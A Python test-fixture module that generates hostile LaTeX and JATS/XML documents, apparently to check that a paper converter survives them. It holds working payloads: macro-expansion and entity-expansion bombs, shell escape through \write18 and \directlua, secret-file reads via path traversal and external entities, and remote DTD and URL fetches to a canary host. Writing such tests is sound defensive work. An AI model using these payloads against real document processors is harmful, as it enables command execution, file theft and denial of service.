"""Sources of papers that loop, explode or reach for what is not theirs."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from tests.hostile.packages import Canary


def latex(canary: Canary) -> dict[str, bytes]:
    """LaTeX papers by name; each is one `main.tex`."""
    secret, target, command = canary.secret, canary.target, f"touch {canary.target}"
    body = {
        "loop": r"\def\a{\a}\a",
        "doubling": "".join(rf"\def\{chr(97 + n)}{{\{chr(98 + n)}\{chr(98 + n)}}}" for n in range(24)) + r"\a",
        "growing": r"\def\a#1{\a{#1#1}}\a{x}",
        "edef": r"\def\x{xx}\loop\iftrue\edef\x{\x\x}\repeat",
        "csname": r"\def\a{\csname a\endcsname}\a",
        "conditionals": r"\iftrue" * 50_000,
        "arguments": r"\newcommand{\a}[9]{#1#2#3}" + r"\a" * 50_000,
        "input-loop": r"\input{main}\include{main}\subfile{main}",
        "environments": r"\begin{figure}" * 20_000,
        "groups": "{" * 200_000 + "x" + "}" * 200_000,
        "maths": "$" * 100_001 + r"\left(" * 20_000 + r"^{_{" * 20_000,
        "counter": r"\newcounter{a}\loop\stepcounter{a}\ifnum\value{a}<999999999\repeat",
        "number": r"\setcounter{figure}{" + "9" * 10_000 + r"}\begin{figure}\includegraphics{a}\caption{x}\end{figure}",
        "verb": r"\begin{verbatim}" + "\\verb|" * 50_000,
        "labels": r"\label{a}\ref{a}" * 20_000,
        "graphicspath": r"\graphicspath{" + "{/}" * 20_000 + r"}\includegraphics{a}",
        "shell": rf"\immediate\write18{{{command}}}\input{{|\"{command}\"}}\ShellEscape{{{command}}}",
        "lua": rf"\directlua{{os.execute('{command}')}}\pdfshellescape",
        "files": (
            rf"\newwrite\f\immediate\openout\f={target}\immediate\write\f{{x}}\begin{{filecontents}}{{{target}}}x"
            rf"\end{{filecontents}}\input{{{secret}}}\input{{../../../../..{secret}}}\openin1={secret}\read1to\x\x"
            rf"\begin{{figure}}\input{{{secret}}}\includegraphics{{{secret}}}\caption{{C \input{{{secret}}}}}"
            r"\end{figure}"
            rf"\lstinputlisting{{{secret}}}\verbatiminput{{{secret}}}\InputIfFileExists{{{secret}}}{{}}{{}}"
        ),
        "network": "".join(rf"\{name}{{{canary.url}}}" for name in ("input", "includegraphics", "url", "openin")),
        "binary": "".join(map(chr, range(256))) * 200,
    }
    figure = r"\begin{figure}\includegraphics{a}\caption{Plain.}\end{figure}"
    head = r"\documentclass{article}\begin{document}"
    return {name: f"{head}{text}{figure}\\end{{document}}".encode("latin-1") for name, text in body.items()}


def jats(canary: Canary) -> dict[str, bytes]:
    """JATS articles by name."""
    levels = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
    caption = "<body><fig id='f1'><label>Figure 1</label><caption><p>%s</p></caption><graphic href='%s'/></fig></body>"
    attributes = " ".join(f"a{n}='x'" for n in range(50_000))
    references, figures = "<p><xref rid='f1'/></p>" * 20_000, "<fig><graphic href='a'/></fig>" * 20_000
    articles = {
        "laughs": f'<!DOCTYPE article [<!ENTITY e0 "ha">{levels}]><article>{caption % ("&e11;", "a.png")}</article>',
        "quadratic": f'<!DOCTYPE article [<!ENTITY e "{"x" * 100_000}">]><article>'
        f"{caption % ('&e;' * 20_000, 'a.png')}</article>",
        "external": f'<!DOCTYPE article [<!ENTITY e SYSTEM "file://{canary.secret}">]><article>'
        f"{caption % ('Caption &e;', canary.secret)}</article>",
        "remote": f'<!DOCTYPE article SYSTEM "{canary.url}dtd" [<!ENTITY e SYSTEM "{canary.url}entity">]><article>'
        f"{caption % ('Caption &e;', canary.url)}</article>",
        "parameter": f'<!DOCTYPE article [<!ENTITY % p SYSTEM "{canary.url}p"> %p;]><article>'
        f"{caption % ('x', 'a.png')}</article>",
        "include": f'<article xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file://{canary.secret}" '
        f'parse="text"/>{caption % ("x", "a.png")}</article>',
        "deep": "<article>" + "<sec>" * 200_000,
        "attributes": f"<article {attributes}>{caption % ('x', 'a.png')}</article>",
        "references": f"<article><body>{references}</body>{caption % ('x', 'a.png')}</article>",
        "figures": f"<article><body>{figures}</body></article>",
        "stylesheet": f'<?xml-stylesheet href="{canary.url}"?><article>{caption % ("x", "../../" * 500)}</article>',
    }
    return {name: text.encode() for name, text in articles.items()}
